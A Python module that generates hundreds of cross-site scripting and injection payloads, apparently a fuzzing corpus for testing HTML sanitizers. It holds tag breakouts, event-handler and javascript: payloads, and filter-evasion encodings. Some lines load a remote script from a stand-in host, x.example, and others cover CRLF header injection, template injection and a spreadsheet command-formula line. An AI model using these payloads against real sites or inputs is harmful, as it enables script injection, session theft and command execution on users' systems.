"""Hostile texts, 500 and more: what has been written into search boxes and reviews to make a page run it.

They are composed: ways out of a place in a page (an element, an attribute, a comment), things to put there,
and ways to write them (case, entities, percent signs, characters that some readers skip).
"""

from collections.abc import Callable, Iterator
from html import escape
from itertools import product
from urllib.parse import quote

# What ends the place one is in, so that what follows stands in the page itself.
WAYS_OUT = (
    "", '">', "'>", "</mark>", "</p></li>", "</title>", "</textarea>", "-->", "]]>", '"/>', "</bdi></a>",
    "</script>", "\\\">", "`>", "\n\n>", "</details></summary>",
)  # fmt: skip

# What would act if it became markup.
THINGS = (
    "<script>alert(1)</script>",
    "<script src=//x.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//x.example/x.swf>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<form action=//x.example><button>x</button></form>",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content='0;url=//x.example'>",
    "<link rel=stylesheet href=//x.example/x.css>",
    "<style>@import '//x.example/x.css';</style>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<x onclick=alert(1) style=position:fixed>x</x>",
    "<plaintext>",
    "<xmp><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
)  # fmt: skip

# What acts inside an attribute or a template, without any bracket.
BARE = (
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)" x="',
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<b>x</b>",
    "vbscript:msgbox(1)", "//x.example/", "/\\x.example/", "https://x.example/", "{{ 7 * 7 }}", "{% raw %}",
    "${7*7}", "#{7*7}", "<%= 7 * 7 %>", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "&lt;script&gt;",
    "&#60;b&#62;", "&#x3c;b&#x3e;", "&amp;lt;b&amp;gt;", "&nbsp", "&", "%00", "%0d%0aSet-Cookie: a=b",
    "\r\nSet-Cookie: a=b", "‮evil", "ａ＜ｂ＞", "‹script›", "+ADw-script+AD4-", "=cmd|'/c calc'!A1",
    "@SUM(1+1)", "-1+1", "+1",
)  # fmt: skip

WRITTEN: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\f"),
    lambda text: text.replace("=", " = "),
    escape,
    quote,
    lambda text: "".join(f"&#{ord(letter)};" for letter in text[:12]) + text[12:],
    lambda text: text.replace("<", "\u00bc").replace(">", "\u00be"),
    lambda text: text.replace("<", "<\u200b"),
    lambda text: text[:-1],
)


def composed() -> Iterator[str]:
    """Yield every payload; ways out and ways to write are taken in turn, each meeting each thing."""
    yield from BARE
    for number, (thing, out) in enumerate(product(THINGS, WAYS_OUT)):
        yield out + WRITTEN[number % len(WRITTEN)](thing)
    for number, (thing, written) in enumerate(product(THINGS, WRITTEN)):
        yield WAYS_OUT[number % len(WAYS_OUT)] + written(thing)


PAYLOADS = tuple(dict.fromkeys(composed()))
